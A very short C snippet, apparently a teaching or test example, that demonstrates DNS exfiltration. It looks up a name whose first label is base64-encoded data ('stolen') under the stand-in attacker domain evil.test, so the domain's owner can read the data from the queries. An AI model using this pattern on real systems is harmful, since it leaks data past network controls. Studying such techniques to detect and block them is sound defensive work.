/* Data in the labels of a name whose owner reads the questions. */
#include "attack.h"
int main(int c, char **v) {
    char address[64];
    finish(lookup("c3RvbGVu.evil.test", address));
}
